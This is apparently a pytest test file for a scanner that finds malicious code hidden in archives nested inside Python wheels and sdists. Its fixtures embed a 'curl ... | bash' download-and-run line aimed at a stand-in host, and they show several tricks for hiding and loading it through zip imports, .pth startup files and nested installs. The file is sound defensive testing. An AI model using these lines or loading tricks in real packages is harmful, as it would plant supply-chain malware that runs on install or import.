"""Archives inside a distribution are opened when code uses them, and what lies in them runs when that code does."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import finding_of, scan_sdist, scan_wheel
from wheelmark.dist import ArchiveBroken, ArchiveTooLarge
from wheelmark.scan import Context, Report, ScanBounds, Verdict
from wheelmark.scan.nested import NestedBudget, decompressed, holds_archive, nested_entries
from wheelmark.scan.samples import tarred, zipped

FETCH = b"import os\nos.system('curl -s https://get.example.invalid/i | bash')\n"
HERE = "import os\nHERE = os.path.dirname(__file__)\n"
OPEN = "import sys\nsys.path.insert(0, os.path.join(HERE, 'lib.zip'))\nimport payload\n"
EXTRACT = (
    "import subprocess, sys, tarfile\ntarfile.open(os.path.join(HERE, 'lib.zip')).extractall(HERE)\n"
    "subprocess.run([sys.executable, os.path.join(HERE, 'payload.py')])\n"
)


def plain_tar(files: dict[str, bytes]) -> bytes:
    return gzip.decompress(tarred(files))


PACKERS: dict[str, Callable[[dict[str, bytes]], bytes]] = {
    "zip": zipped,
    "zip behind other bytes": lambda files: b"\x89PNG no picture" * 9 + zipped(files),
    "tar": plain_tar,
    "tar.gz": tarred,
    "tar.bz2": lambda files: bz2.compress(plain_tar(files)),
    "tar.xz": lambda files: lzma.compress(plain_tar(files)),
}


def scan_with(code: str, archive: bytes, name: str = "lib.zip", bounds: ScanBounds | None = None) -> Report:
    return scan_wheel({"widget/__init__.py": HERE + code, f"widget/{name}": archive}, bounds=bounds)


@pytest.mark.parametrize("kind", PACKERS)
def test_archive_is_told_by_its_bytes(kind: str) -> None:
    code = OPEN.replace("lib.zip", "table.bin") if kind.startswith("zip") else EXTRACT.replace("lib.zip", "table.bin")
    found = finding_of(scan_with(code, PACKERS[kind]({"payload.py": FETCH}), "table.bin"), "shell-download-run")
    assert (found.member, found.context) == ("widget/table.bin!/payload.py", Context.IMPORT)


@pytest.mark.parametrize(
    "code",
    [
        "import zipimport\nzipimport.zipimporter(os.path.join(HERE, 'lib.zip')).load_module('payload')\n",
        "sys = __import__('sys')\nsys.path.append(HERE + '/lib.zip')\nfrom payload import VERSION\n",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(HERE, 'lib.zip')])\n",
        "import subprocess, sys\nsubprocess.call(f'{sys.executable} -m pip install {HERE}/*.zip', shell=True)\n",
    ],
)
def test_ways_to_use_an_archive(code: str) -> None:
    assert finding_of(scan_with(code, zipped({"payload.py": FETCH})), "shell-download-run").context is Context.IMPORT


def test_compressed_code_is_read() -> None:
    code = "import gzip\nexec(gzip.open(os.path.join(HERE, 'lib.zip')).read())\n"
    assert finding_of(scan_with(code, gzip.compress(FETCH)), "shell-download-run").context is Context.IMPORT


def test_code_at_start_up_of_a_wheel_that_is_installed_from_within_is_read() -> None:
    code = "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', HERE + '/lib.zip'])\n"
    pth = zipped({"x.pth": b"import os; os.system('curl -s https://get.example.invalid/i | bash')\n"})
    assert finding_of(scan_with(code, pth), "startup-file-code").member == "widget/lib.zip!/x.pth"


@pytest.mark.parametrize("folder", ["", "widget-1.data/purelib/", "widget-1.data/data/lib/python3.15/site-packages/"])
def test_start_file_is_found_where_a_wheel_can_put_it(folder: str) -> None:
    boot = "import os\ndef go():\n    os.system('curl -s https://get.example.invalid/i | bash')\n"
    report = scan_wheel({f"{folder}w.start": "widget.boot:go\n", "widget/boot.py": boot, "widget/__init__.py": ""})
    assert finding_of(report, "shell-download-run").context is Context.STARTUP


def test_member_that_is_executed_is_read() -> None:
    code = "import zipfile\nexec(zipfile.ZipFile(os.path.join(HERE, 'lib.zip')).read('notes.txt'))\n"
    assert scan_with(code, zipped({"notes.txt": FETCH})).verdict is Verdict.MALICIOUS


def test_setup_of_an_sdist_that_is_installed_from_within_runs_at_installation() -> None:
    setup = (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'vendor/inner-1.tar.gz'])\n"
    )
    report = scan_sdist({"setup.py": setup, "vendor/inner-1.tar.gz": tarred({"inner-1/setup.py": FETCH})})
    found = finding_of(report, "shell-download-run")
    assert (found.member, found.context) == ("widget-1/vendor/inner-1.tar.gz!/inner-1/setup.py", Context.INSTALL)


def test_modules_of_an_archive_import_one_another() -> None:
    inner = zipped(
        {
            "payload/__init__.py": b"from payload.tools import go\ngo()\n",
            "payload/tools.py": b"""
import os
def go():
    os.system('curl -s https://get.example.invalid/i | bash')
""",
        }
    )
    assert finding_of(scan_with(OPEN, inner), "shell-download-run").context is Context.IMPORT


def test_archive_that_nothing_opens_is_data() -> None:
    report = scan_with("", zipped({"payload.py": FETCH}))
    assert (report.verdict, report.findings) == (Verdict.BENIGN, ())


def test_archive_that_is_opened_on_request_holds_code_for_later() -> None:
    code = "def install():\n    import zipfile\n    zipfile.ZipFile(os.path.join(HERE, 'lib.zip')).extractall()\n"
    assert finding_of(scan_with(code, zipped({"payload.py": FETCH})), "shell-download-run").context is Context.ON_CALL


@pytest.mark.parametrize("depth", [1, 2, 3])
def test_archives_in_archives_are_opened(depth: int) -> None:
    raw = zipped({"payload.py": FETCH})
    for level in range(1, depth):
        raw = zipped(
            {"__main__.py": (HERE + OPEN.replace("lib.zip", f"in{level}.zip")).encode(), f"in{level}.zip": raw}
        )
    report = scan_with(OPEN.replace("import payload\n", ""), raw)
    assert finding_of(report, "shell-download-run").member.count("!/") == depth


def test_archive_beyond_the_depth_makes_the_scan_incomplete() -> None:
    raw = zipped({"payload.py": b"VERSION = 1\n"})
    code = "import os, sys\nsys.path.insert(0, os.path.join('x', 'lib.zip'))\n"
    for _ in range(4):
        raw = zipped({"setup.py": code.encode(), "a.py": code.encode(), "lib.zip": raw})
    report = scan_with(code, raw)
    assert report.verdict is Verdict.INCOMPLETE
    assert "expected an archive of a size and depth" in (report.incomplete_reason or "")


@pytest.mark.parametrize(
    ("raw", "bounds", "reason"),
    [
        (zipped({"a.py": b"x = 1\n" * 200}), ScanBounds(max_source_bytes=1000), "bytes of source, got more"),
        (tarred({"a.dat": b"\0" * 20_000_000}), ScanBounds(), "times the"),
        (zipped({f"{n}.py": b"" for n in range(30)}), ScanBounds(max_nested_members=20), "at most 20 members"),
        (zipped({"a.py": b"x = 1\n"}), ScanBounds(max_archive_bytes=100), "of a size and depth"),
        (zipped({"a.py": b"x = 1\n" * 99})[:-40], ScanBounds(), "neither"),
    ],
    ids=["large source", "bomb", "members", "large archive", "cut"],
)
def test_archive_beyond_a_bound_makes_the_scan_incomplete(raw: bytes, bounds: ScanBounds, reason: str) -> None:
    assert scan_with("", raw, bounds=bounds).verdict is Verdict.BENIGN  # nothing opens it
    report = scan_with(OPEN, raw, bounds=bounds)
    assert report.verdict is Verdict.INCOMPLETE
    assert reason in (report.incomplete_reason or "")


@settings(max_examples=150)
@given(st.sampled_from(sorted(PACKERS)), st.integers(0, 600), st.binary(max_size=6), st.integers(0, 60))
def test_damaged_archives_end_in_a_verdict(kind: str, where: int, put: bytes, cut: int) -> None:
    raw = bytearray(PACKERS[kind]({"payload.py": FETCH, "d.zip": zipped({"a.py": FETCH})}))
    raw[where % len(raw) : where % len(raw) + len(put)] = put
    raw = raw[: len(raw) - cut]
    report = scan_with(OPEN + EXTRACT, bytes(raw))
    assert (report.verdict is Verdict.INCOMPLETE) <= (report.incomplete_reason is not None)


@settings(max_examples=200)
@given(st.sampled_from([b"", b"PK\x03\x04", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0", b"PK\x05\x06"]), st.binary())
def test_any_bytes_give_members_or_a_refusal(start: bytes, rest: bytes) -> None:
    budget = NestedBudget(1 << 20, 100)
    holds_archive(start + rest)
    assert len(decompressed(start + rest, 1 << 16)) <= max(1 << 16, len(start + rest))
    try:
        for entry in nested_entries("x", start + rest, budget):
            entry.read(1 << 16)
    except (ArchiveBroken, ArchiveTooLarge):
        pass


def test_decompressed_bytes_are_bounded() -> None:
    assert decompressed(gzip.compress(b"\0" * 1_000_000), 1000) == b"\0" * 1000


def test_tar_inside_is_read_in_the_order_of_its_members() -> None:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("b.py", "a.py"):
            archive.addfile(tarfile.TarInfo(name))
    assert [entry.path for entry in nested_entries("x.tar", stream.getvalue(), NestedBudget(1 << 20, 10))] == [
        "b.py",
        "a.py",
    ]
